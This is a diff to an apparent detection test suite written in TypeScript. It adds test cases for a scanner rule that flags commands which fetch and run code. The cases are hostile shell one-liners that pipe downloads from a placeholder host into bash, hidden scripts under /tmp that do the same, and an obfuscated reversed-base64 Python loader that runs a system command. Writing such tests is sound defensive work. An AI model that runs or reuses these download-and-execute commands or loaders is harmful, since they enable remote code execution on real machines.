@@ -49,6 +49,9 @@ const FETCHES: readonly ImageCase[] = [
     `curl -s ${HOST_URL} -o /tmp/a.tgz && tar xzf /tmp/a.tgz -C /tmp && /tmp/a/run`,
     `curl -s ${HOST_URL}.tgz | tar xz -C /opt/w\n/opt/w/run &`,
     `git clone https://git.example/a/b.git /tmp/b && cd /tmp/b && make && ./b`,
+    `git clone https://git.example/a/b.git . && go build -o /tmp/b ./... && /tmp/b`,
+    `cat > /tmp/.s <<'EOS'\ncurl -s ${HOST_URL} | bash\nEOS\nbash /tmp/.s`,
+    `echo "curl -s ${HOST_URL} | bash" > /tmp/s; chmod +x /tmp/s; /tmp/s`,
     `while true; do curl -s ${HOST_URL} | sh; sleep 600; done &`,
     `B=$(curl -s ${HOST_URL}); echo "$B" | bash`,
     `B="$(wget -qO- ${HOST_URL})"\neval "$B"`,
@@ -164,7 +167,7 @@ const FETCHES: readonly ImageCase[] = [
   {
     name: 'decode: Python, layered',
     spec: starts(
-      `#!/usr/bin/env python3\n_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${base64(gzipSync('x')).split('').reverse().join('')}'))`,
+      `#!/usr/bin/env python3\n_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${base64(gzipSync('import os; os.system("id") # and more of it')).split('').reverse().join('')}'))`,
     ),
     rule: 'start/decode-and-run',
     severity: 'medium',
